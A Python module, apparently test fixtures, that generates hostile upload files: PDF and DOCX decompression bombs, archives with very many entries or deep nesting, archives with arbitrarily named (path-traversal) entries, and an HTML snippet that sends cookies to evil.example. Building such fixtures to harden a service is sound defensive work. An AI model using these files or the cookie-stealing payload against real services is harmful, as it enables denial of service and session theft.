"""Files that somebody would send to bring a service down, or to get something past it: small ones, made on the spot."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import Final

MEGABYTE: Final = 1024 * 1024
PNG: Final = b"\x89PNG\r\n\x1a\n" + b"\0" * 32
PAGE: Final = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"


def pdf_that_unfolds(megabytes: int) -> bytes:
    """A PDF whose objects lie in a compressed stream of so many megabytes: to read any of them is to unfold it all."""
    squeezed = b"".join(_squeezed(b"4 0 ", megabytes, b"<</A 1>>"))
    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%b\nendstream"
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/X 4 0 R>>",
        b"<</Type/Pages/Kids[]/Count 0>>",
        stream % (len(squeezed), squeezed),
    ]
    out, places = bytearray(b"%PDF-1.7\n"), list[int]()
    for number, one in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    rows = [(0, 0, 255), *((1, place, 0) for place in places), (2, 3, 0), (1, len(out), 0)]
    table = zlib.compress(b"".join(struct.pack("!BIB", *row) for row in rows))
    head = b"<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>" % len(table)
    at = len(out)
    out += b"5 0 obj\n%bstream\n%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % (head, table, at)
    return bytes(out)


def archive_that_unfolds(megabytes: int) -> bytes:
    """A DOCX whose text is so many megabytes of nothing."""
    made = io.BytesIO()
    with (
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/document.xml", "w", force_zip64=True) as part,
    ):
        for _ in range(megabytes):
            part.write(b"\0" * MEGABYTE)
    return made.getvalue()


def archive_of_many(parts: int) -> bytes:
    """A DOCX of so many empty parts: what lists them keeps half a kilobyte of each."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("word/document.xml", "<a/>")
        for number in range(parts):
            archive.writestr(f"{number:x}", "")
    return made.getvalue()


def archive_of_archives(deep: int) -> bytes:
    """An archive in an archive, and so on."""
    content = b"at last"
    for _ in range(deep):
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("word/document.xml", content)
        content = made.getvalue()
    return content


def archive_with(name: str) -> bytes:
    """A DOCX with a part of this name, whatever it would do to who unpacks it."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("word/document.xml", "<a/>")
        archive.writestr(name, "x")
    return made.getvalue()


def _squeezed(first: bytes, megabytes: int, last: bytes) -> Iterator[bytes]:
    squeeze = zlib.compressobj(9)
    yield squeeze.compress(first)
    for _ in range(megabytes):
        yield squeeze.compress(b" " * MEGABYTE)
    yield squeeze.compress(last) + squeeze.flush()
